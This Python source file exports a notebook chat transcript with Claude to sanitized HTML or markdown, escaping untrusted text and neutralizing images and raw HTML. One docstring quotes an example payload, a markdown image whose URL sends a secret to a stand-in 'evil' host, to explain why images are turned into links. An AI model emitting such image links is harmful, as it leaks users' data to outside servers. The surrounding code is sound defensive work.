"""The transcript without a kernel: static HTML for a saved notebook, and HTML or markdown to share.

Built from the widget's transcript items (messages, tool cards with their results, prompts with
their answers, approvals with their decisions, one-line events). Every untrusted string is escaped;
model text is rendered from markdown with raw HTML off and then sanitized by an allow-list (nh3), so
nothing the model or a tool wrote becomes a script, a style or an event handler in the page.
"""

from __future__ import annotations

import functools
import html
import json
from collections.abc import Iterable, Mapping
from typing import Any
from urllib.parse import urlsplit

from . import _export_blocks as blocks

__all__ = ["STATIC_CLASS", "to_html", "to_markdown", "to_page"]

STATIC_CLASS = "nt-static-transcript"
"""The class of the static copy's root (the live widget hides the copy of its own chat)."""
NO_MATH = "mathjax_ignore tex2jax_ignore"
"""The classes MathJax 3 (JupyterLab, Notebook 7) and MathJax 2 (nbviewer, nbconvert) skip."""

ITEM_STYLE = "content-visibility:auto;contain-intrinsic-size:auto 120px;overflow-x:auto"
ITEM_OPEN = f'<div class="nt-static-item" style="{ITEM_STYLE}">'
"""Each item of a copy is laid out and drawn only near sight (issue 40). JupyterLab draws a cell's
copy before the live view that hides it has loaded: a 1,000-message session's first draw went from
about 550 ms to 350 ms, its longest task from 180 ms to 85 ms. A viewer that drops styles (GitHub)
shows the items as before; searching the page still finds text out of sight. The containment that
comes with it clips what reaches past the item's box: a wide table or line scrolls in its item."""

_TAGS = {
    "a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i",
    "li", "ol", "p", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
_ATTRIBUTES = {"a": {"href", "title"}, "th": {"align"}, "td": {"align"}}
_PREVIEW_ROWS = 10


def _image(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    """A markdown image as the widget shows it: a link "🖼 image from HOST", never fetched by itself.

    An `<img>` with a remote `src` would be fetched by whoever opens the page (even hidden), which
    lets model text send data to any server (`![x](https://evil/?q=secret)`).
    """
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    src = str(token.attrGet("src") or "")
    url = urlsplit(src)
    try:
        host = (url.hostname or "") + (f":{url.port}" if url.port else "")
    except ValueError:
        host = ""
    if url.scheme not in ("http", "https") or not host:
        return _esc(f"[image: {alt}]" if alt else "[image]")
    label = _esc(f"🖼 image from {host}" + (f": {alt}" if alt else ""))
    if sum({"link_open": 1, "link_close": -1}.get(t.type, 0) for t in tokens[:idx]) > 0:
        return label  # inside a link already: no nested link
    return f'<a href="{_esc(src)}" title="{_esc(src)}">{label}</a>'


@functools.lru_cache(maxsize=1)
def _parser() -> Any:
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"html": False}).enable("table")
    parser.add_render_rule("image", _image)
    return parser


# The copy is rebuilt at each pause and turn's end: earlier messages are not rendered again. The
# cache holds a long session's every message: a rebuild walks them in order, so a cache smaller than
# the session misses on every one of them (512 entries made each refresh of a 1,000-message copy
# render it all again, some 200 ms of the kernel's time).
@functools.lru_cache(maxsize=8192)
def _markdown(text: str) -> str:
    import nh3

    return nh3.clean(
        _parser().render(text),
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
    )


def _esc(value: object) -> str:
    return html.escape(str(value), quote=True)


def _pre(text: str) -> str:
    return f"<pre>{_esc(text)}</pre>"


def _table(data: Mapping[str, Any]) -> str:
    columns = [str(c) for c in data.get("columns", [])]
    rows = list(data.get("rows", []))[:_PREVIEW_ROWS]
    index = list(data.get("index", []))
    head = "".join(f"<th>{_esc(c)}</th>" for c in ["", *columns])
    body = "".join(
        "<tr>"
        + f"<th>{_esc(index[k] if k < len(index) else '')}</th>"
        + "".join(f"<td>{_esc('' if v is None else v)}</td>" for v in row)
        + "</tr>"
        for k, row in enumerate(rows)
    )
    shape = data.get("shape", [len(rows), len(columns)])
    more = f"<p><i>{_esc(shape[0])} rows x {_esc(shape[1])} columns; the first {len(rows)} shown.</i></p>"
    return f"<table><thead><tr>{head}</tr></thead><tbody>{body}</tbody></table>{more}"


def _shown(shown: Mapping[str, Any]) -> str:
    """A rich result's static form: a table's first rows, a diff's text, an image; else its summary."""
    kind, data = shown.get("kind"), shown.get("data")
    summary = f"<p>{_esc(shown['summary'])}</p>" if shown.get("summary") else ""
    if kind == "table" and isinstance(data, Mapping):
        return summary + _table(data)
    if kind == "diff" and isinstance(data, Mapping):
        from ..results._builders import unified

        return summary + _pre(unified(str(data["path"]), str(data["original"]), str(data["modified"])))
    for item in shown.get("files", []):
        mime = str(item.get("mime_type", ""))
        if mime in ("image/png", "image/jpeg", "image/gif", "image/webp"):
            src = f"data:{mime};base64,{item.get('data', '')}"
            return summary + f'<p><img alt="{_esc(item.get("filename") or "image")}" src="{_esc(src)}"></p>'
    return summary


def _tool(item: Mapping[str, Any]) -> str:
    name, status = _esc(item.get("name", "tool")), _esc(item.get("status", ""))
    parts = [f"<p><b>🔧 {name}</b> <i>{status}</i></p>"]
    if item.get("input"):
        parts.append(_pre(json.dumps(item["input"], ensure_ascii=False, indent=1)))
    prompt = item.get("prompt")
    if isinstance(prompt, Mapping):
        parts.append(_prompt(prompt))
        if prompt.get("kind") != "approval":  # a person's answer is the result; an approved call's is not
            return "<blockquote>" + "".join(parts) + "</blockquote>"
    app = item.get("app")
    if isinstance(app, Mapping):  # its app runs only in a live notebook: the text is its fallback here
        parts.append(f"<p><i>{_esc(app_line(app))}</i></p>")
    shown = item.get("shown")
    if isinstance(shown, Mapping) and shown.get("kind") != "mcp.app":
        parts.append(_shown(shown))
    elif item.get("result"):
        parts.append(_pre(str(item["result"])))
    return "<blockquote>" + "".join(parts) + "</blockquote>"


def app_line(app: Mapping[str, Any]) -> str:
    """What a copy says in place of a tool card's MCP app."""
    return f"Interactive app of {app.get('server', '')} ({app.get('tool', '')}): shown in a live notebook."


def _asked(prompt: Mapping[str, Any]) -> str:
    """What a prompt asked: its question or message, else its description or tool name."""
    arguments = prompt.get("input") or {}
    if prompt.get("kind") == "approval":
        return f"Run {prompt.get('name') or 'this tool'}?"
    return str(
        arguments.get("prompt")
        or arguments.get("message")
        or prompt.get("description")
        or prompt.get("name")
        or ""
    )


def _prompt(prompt: Mapping[str, Any]) -> str:
    asked = _asked(prompt)
    status = str(prompt.get("status", ""))
    answer = prompt.get("answer") or ""
    line = f"<p>❓ {_esc(asked)}</p>"
    outcome = f"<b>{_esc(answer)}</b>" if status == "answered" and answer else f"<i>{_esc(status)}</i>"
    return line + f"<p>→ {outcome}</p>"


def _item(item: Mapping[str, Any]) -> str:
    kind = item.get("kind")
    if item.get("discarded"):
        return ""
    if kind == "user":
        text = _esc(item.get("text", "")).replace("\n", "<br>")
        return f"<p><b>You:</b></p><blockquote>{text}</blockquote>"
    if kind == "assistant":
        return f"<p><b>Claude:</b></p>{blocks.cited(str(item.get('text', '')), item, _markdown)}"
    if kind == "tool":
        return _tool(item)
    if kind == "thinking":
        return blocks.thinking(item)
    if kind == "server_tool":
        return blocks.server_tool(item, _pre)
    if kind == "compaction":
        summary = "<summary>Earlier conversation summarized</summary>"
        return f"<hr><details>{summary}{_markdown(str(item.get('text', '')))}</details><hr>"
    if kind == "prompt" and isinstance(item.get("prompt"), Mapping):
        return f"<blockquote>{_prompt(item['prompt'])}</blockquote>"
    if kind in ("notice", "event"):
        details = item.get("details")  # an error's technical details, folded as in the widget
        folded = f"<details><summary>Details</summary><pre>{_esc(details)}</pre></details>" if details else ""
        said = [item.get("text"), item.get("explanation"), item.get("advice")]  # a turn notice's three
        return "".join(f"<p><i>{_esc(line)}</i></p>" for line in said if line) + folded
    return ""


def to_html(items: Iterable[Mapping[str, Any]], *, chat_id: str = "", title: str = "") -> str:
    """The transcript as one sanitized HTML fragment (a `div` with class `STATIC_CLASS`)."""
    body = "".join(f"{ITEM_OPEN}{html}</div>" for html in map(_item, items) if html)
    heading = f"<h3>{_esc(title)}</h3>" if title else ""
    data = f' data-nt-chat="{_esc(chat_id)}"' if chat_id else ""
    # (math is not typeset, as in the live view: JupyterLab's MathJax 3 and nbviewer's MathJax 2 skip it
    # by these classes; a "$5 and $10" stays prose, and a long copy is not scanned when it is drawn)
    classes = f"{STATIC_CLASS} {NO_MATH}"
    return f'<div class="{classes}"{data}>{heading}{body or "<p><i>(no messages yet)</i></p>"}</div>'


_PAGE_CSS = """
body { font: 15px/1.5 system-ui, sans-serif; max-width: 52rem; margin: 2rem auto; padding: 0 1rem;
  color: #1f2328; background: #fff; }
blockquote { margin: .5rem 0; padding: .25rem .75rem; border-left: 3px solid #d0d7de; color: #3d444d; }
pre { background: #f6f8fa; padding: .5rem; overflow-x: auto; white-space: pre-wrap; }
table { border-collapse: collapse; } th, td { border: 1px solid #d0d7de; padding: .2rem .5rem; }
img { max-width: 100%; }
@media (prefers-color-scheme: dark) {
  body { color: #e6edf3; background: #0d1117; } pre { background: #161b22; }
  blockquote { color: #c9d1d9; border-color: #3d444d; } th, td { border-color: #3d444d; }
}
"""


def to_page(items: Iterable[Mapping[str, Any]], *, title: str = "") -> str:
    """The transcript as a standalone HTML page: the fragment, a little inline CSS, no script."""
    heading = _esc(title or "Conversation with Claude")
    return (
        '<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n'
        '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
        f"<title>{heading}</title>\n<style>{_PAGE_CSS}</style>\n</head>\n"
        f"<body>\n{to_html(items, title=title)}\n</body>\n</html>\n"
    )


def to_markdown(items: Iterable[Mapping[str, Any]]) -> str:
    """The transcript as markdown (model text as written; everything else quoted or fenced)."""
    out: list[str] = []
    for item in items:
        kind, text = item.get("kind"), str(item.get("text", ""))
        if item.get("discarded"):
            continue
        if kind == "user":
            out.append("**You:**\n\n" + "\n".join(f"> {_md(line)}" for line in text.splitlines()))
        elif kind == "assistant":
            out.append(f"**Claude:**\n\n{blocks.cited_markdown(text, item, _md)}")
        elif kind in ("thinking", "server_tool"):
            out.append(blocks.block_markdown(item, _md))
        elif kind == "compaction":
            out.append("---\n\n_Earlier conversation summarized._\n\n---")
        elif kind in ("tool", "prompt"):
            out.append(_tool_markdown(item))
        elif kind in ("notice", "event"):
            said = [text, item.get("explanation"), item.get("advice")]
            out.append("\n\n".join(f"_{_md(line)}_" for line in said if line))
    return "\n\n".join(out) + "\n"


def _md(value: object) -> str:
    """Text for markdown with raw HTML disarmed (a viewer that renders HTML in markdown shows it as text)."""
    return html.escape(str(value), quote=False)


def _fence(text: str) -> str:
    ticks = "```"
    while ticks in text:
        ticks += "`"
    return f"{ticks}\n{text}\n{ticks}"


def _tool_markdown(item: Mapping[str, Any]) -> str:
    prompt = item.get("prompt")
    lines = []
    if item.get("kind") == "tool":
        lines.append(f"> 🔧 **{_md(item.get('name', ''))}** _{_md(item.get('status', ''))}_")
    if isinstance(prompt, Mapping):
        lines.append(f"> ❓ {_md(_asked(prompt))}")
        lines.append(f"> → {_md(prompt.get('answer') or prompt.get('status'))}")
    if isinstance(item.get("app"), Mapping):
        lines.append(f"> _{_md(app_line(item['app']))}_")
    text = "\n".join(lines)
    shown = item.get("shown")
    if isinstance(shown, Mapping) and shown.get("summary") and shown.get("kind") != "mcp.app":
        text += f"\n>\n> {_md(shown['summary'])}"
    answered_by_person = isinstance(prompt, Mapping) and prompt.get("kind") != "approval"
    if item.get("result") and not answered_by_person:
        text += "\n\n" + _fence(str(item["result"]))
    return text
